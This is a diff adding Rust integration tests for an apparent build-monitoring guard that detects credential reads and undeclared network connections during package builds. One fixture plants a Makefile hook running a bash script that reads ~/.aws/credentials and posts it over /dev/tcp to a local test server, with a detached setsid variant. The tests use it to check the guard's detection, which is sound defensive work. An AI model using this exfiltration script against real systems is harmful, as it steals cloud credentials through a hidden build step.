@@ -470,3 +470,186 @@ fn a_poisoned_package_is_caught_under_pip() {
 fn a_poisoned_package_is_caught_under_make() {
     demo("a_poisoned_package_is_caught_under_make", Manager::Make);
 }
+
+/// A job that takes long enough to be seen by a sensor that only looks now and then.
+fn slow_theft(place: &Place, sink: &Sink) {
+    place.write("work/Makefile", "deps:\n\t@sh vendor/setup.sh\n");
+    let thief = format!(
+        "exec bash <<'END'\nexec 4< ~/.aws/credentials\nread -r -d '' body <&4\nsleep 0.2\nexec 3<>/dev/tcp/{}/{}\n\
+         printf 'POST / HTTP/1.0\\r\\nContent-Length: %s\\r\\n\\r\\n%s' \"${{#body}}\" \"$body\" >&3\nsleep 0.3\nEND\n",
+        sink.address.ip(),
+        sink.address.port(),
+    );
+    place.write("work/vendor/setup.sh", &thief);
+}
+
+#[test]
+fn without_kernel_events_an_honest_job_is_quiet_and_never_clean() {
+    live("without_kernel_events_an_honest_job_is_quiet_and_never_clean", |_| {
+        let place = Place::new(
+            "set -eu\nsleep 0.1\necho built > out.txt\n(sleep 0.3; cat out.txt) &\nwait\nexit 3\n",
+        );
+        let output = place.run(&["--sensor", "procfs"], &["bash", "build.sh"]);
+        assert_eq!(output.status.code(), Some(3), "{}", text(&output.stderr));
+        let report = place.report();
+        assert_eq!(report["verdict"], "partial");
+        assert_eq!(
+            (&report["coverage"]["state"], &report["coverage"]["sensor"]),
+            (&"partial".into(), &"procfs".into())
+        );
+        assert_eq!(report["coverage"]["process"], "polled");
+        assert_eq!(report["findings"], Value::Array(Vec::new()), "{report:#}");
+        assert!(report["coverage"]["gaps"].to_string().contains("measured on"), "{report:#}");
+        place.replay_is_the_same(&output);
+    });
+}
+
+#[test]
+fn without_kernel_events_a_slow_theft_is_seen() {
+    live("without_kernel_events_a_slow_theft_is_seen", |network| {
+        let sink = Sink::start(SocketAddrV4::new(network.address, 0)).expect("a server");
+        let place = Place::new("set -eu\nmake -s deps\n");
+        slow_theft(&place, &sink);
+        // Three times: what it sees must not hang on the moment.
+        for _ in 0..2 {
+            place.run(&["--sensor", "procfs"], &["bash", "build.sh"]);
+            assert_eq!(failing(&place.report()).len(), 2, "{:#}", place.report());
+        }
+        let output = place.run(&["--sensor", "procfs"], &["bash", "build.sh"]);
+        assert!(text(&sink.take()).contains("not-a-real-one"), "the theft was real");
+        assert_eq!(output.status.code(), Some(86), "{}", text(&output.stderr));
+        let credential = place.root.path().canonicalize().unwrap().join("home/.aws/credentials");
+        let wanted = [
+            format!("cred-file-access {}", credential.display()),
+            format!("egress-undeclared {}", sink.address),
+        ];
+        assert_eq!(failing(&place.report()), wanted);
+        place.replay_is_the_same(&output);
+
+        // A grandchild that left its session and lost its parent is still the job's.
+        place.write("work/Makefile", "deps:\n\t@setsid sh -c 'sh vendor/setup.sh & exit'; sleep 1\n");
+        let output = place.run(&["--sensor", "procfs"], &["bash", "build.sh"]);
+        assert_eq!(output.status.code(), Some(86), "{}", text(&output.stderr));
+        assert_eq!(failing(&place.report()), wanted);
+    });
+}
+
+#[test]
+fn without_rights_auto_says_so_first_and_an_explicit_choice_is_kept() {
+    live("without_rights_auto_says_so_first_and_an_explicit_choice_is_kept", |_| {
+        let place = Place::new("sleep 0.1\n");
+        let folder = place.root.path();
+        fs::copy(GUARD, folder.join("guard")).expect("a copy that anybody can run");
+        for path in ["", "home", "work"] {
+            let mode = std::os::unix::fs::PermissionsExt::from_mode(0o777);
+            fs::set_permissions(folder.join(path), mode).expect("open to all");
+        }
+        for (options, status, opening) in [
+            (&[][..], 0, "warning: kernel events are not to be had here"),
+            (&["--on-unsupported", "skip"], 0, "notice: kernel events are not to be had here"),
+            (&["--sensor", "procfs"], 0, "edamame-guard: "),
+            (&["--on-unsupported", "fail"], 125, "error: not permitted"),
+            (&["--sensor", "ebpf"], 125, "error: not permitted"),
+            (&["--sensor", "seccomp"], 2, "error: the sensor `seccomp`"),
+        ] {
+            let output = Command::new("setpriv")
+                .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
+                .arg(folder.join("guard"))
+                .args(["run", "--report-dir", "../report-nobody"])
+                .args(options)
+                .args(["--", "sh", "-c", "sleep 0.1; touch ran"])
+                .env_clear()
+                .env("HOME", folder.join("home"))
+                .env("PATH", "/usr/bin:/bin")
+                .current_dir(folder.join("work"))
+                .output()
+                .expect("setpriv");
+            let said = text(&output.stderr);
+            assert_eq!(output.status.code(), Some(status), "{options:?}: {said}");
+            assert!(said.starts_with(opening), "{options:?}: {said}");
+            let ran = folder.join("work/ran");
+            assert_eq!(ran.exists(), status == 0, "{options:?}");
+            if status == 0 {
+                fs::remove_file(ran).expect("removed");
+                assert_eq!(findings(&folder.join("report-nobody"))["verdict"], "partial");
+            }
+        }
+    });
+}
+
+#[test]
+fn connections_from_before_are_listed_and_no_finding() {
+    live("connections_from_before_are_listed_and_no_finding", |network| {
+        let sink = Sink::start(SocketAddrV4::new(network.address, 0)).expect("a server");
+        let before = std::net::TcpStream::connect(sink.address).expect("a connection");
+        let local = before.local_addr().expect("an address").to_string();
+        for sensor in ["ebpf", "procfs"] {
+            let place = Place::new("sleep 0.2\n");
+            // The job gets the connection as its standard input, too.
+            let output = place
+                .command(&["run", "--report-dir", "../report", "--sensor", sensor, "--", "bash", "build.sh"])
+                .stdin(std::os::fd::OwnedFd::from(before.try_clone().expect("a copy")))
+                .output()
+                .expect("the guard starts");
+            let said = text(&output.stderr);
+            assert_eq!(output.status.code(), Some(0), "{said}");
+            let report = place.report();
+            assert_eq!(report["findings"], Value::Array(Vec::new()), "{report:#}");
+            let sockets = report["sockets_before"].as_array().expect("sockets");
+            let told = sockets.iter().find(|socket| socket["local"] == local.as_str()).expect("ours");
+            assert_eq!(told["remote"], sink.address.to_string());
+            let owner = u64::from(std::process::id());
+            let owners = told["owners"].as_array().expect("owners");
+            assert!(owners.iter().any(|told| told["pid"] == owner), "{told}");
+            assert!(said.contains("open before the start"), "{said}");
+            place.replay_is_the_same(&output);
+        }
+    });
+}
+
+#[test]
+fn thousands_of_processes_and_threads_are_too_many_for_nobody() {
+    live("thousands_of_processes_and_threads_are_too_many_for_nobody", |_| {
+        let place = Place::new("perl crowd.pl\npython3 threads.py\n");
+        place.write("work/crowd.pl", "my @all; for (1..2000) { my $p = fork; if (!$p) { sleep 60; exit } push @all, $p } sleep 2; kill 9, @all; 1 while wait != -1;\n");
+        place.write("work/threads.py", "import threading, time\nall = [threading.Thread(target=time.sleep, args=(0.5,)) for _ in range(200)]\n[t.start() for t in all]\n[t.join() for t in all]\n");
+        let output = place.run(&["--sensor", "procfs"], &["bash", "build.sh"]);
+        assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
+        let report = place.report();
+        let processes = report["steps"][0]["processes"].as_u64().expect("a count");
+        assert!((2000..2100).contains(&processes), "threads are no processes: {processes}");
+        assert_eq!(report["verdict"], "partial", "{report:#}");
+    });
+}
+
+/// What docs/sensors.md says of the polled sensor; the floor is far below what was measured.
+#[test]
+#[ignore = "takes a minute, and wants an idle machine"]
+fn how_much_is_seen_without_kernel_events() {
+    live("how_much_is_seen_without_kernel_events", |network| {
+        let server = std::net::TcpListener::bind((network.address, 0)).expect("a server");
+        let port = server.local_addr().expect("an address").port();
+        thread::spawn(move || server.incoming().collect::<Vec<_>>());
+        let place = Place::new("");
+        place.write(
+            "work/true.pl",
+            "for (1..1000) { my $p = fork; if (!$p) { exec '/bin/true' } waitpid $p, 0 }\n",
+        );
+        place.write("work/open.pl", "use Time::HiRes 'usleep'; my ($n, $ms) = @ARGV; for my $i (1..$n) { my $p = fork; if (!$p) { open(my $f, '>', \"f$i\"); usleep($ms * 1000) if $ms; exit } waitpid $p, 0 }\n");
+        place.write("work/connect.pl", "use Time::HiRes 'usleep'; use IO::Socket::INET; my ($n, $ms, $to) = @ARGV; for (1..$n) { my $p = fork; if (!$p) { my $s = IO::Socket::INET->new(PeerAddr => $to); usleep($ms * 1000) if $ms; exit } waitpid $p, 0 }\n");
+        let seen = |job: &[&str], mark: &str| {
+            place.run(&["--sensor", "procfs", "--fail-on", "none"], job);
+            let record =
+                fs::read_to_string(place.root.path().join("report/evidence.jsonl")).expect("the record");
+            record.lines().filter(|line| line.contains(mark) && !line.contains(".pl\"")).count()
+        };
+        println!("true: {} of 1000", seen(&["perl", "true.pl"], "\"arguments\":[\"/bin/true\""));
+        let to = format!("{}:{port}", network.address);
+        for ms in ["0", "1", "3", "10", "100"] {
+            let opened = seen(&["perl", "open.pl", "100", ms], "\"activity\":\"open\"");
+            let connected = seen(&["perl", "connect.pl", "100", ms, &to], "\"activity\":\"connect\"");
+            println!("held {ms} ms: {opened} of 100 files, {connected} of 100 connections");
+            assert!(ms != "100" || (opened >= 90 && connected >= 90));
+        }
+    });
+}
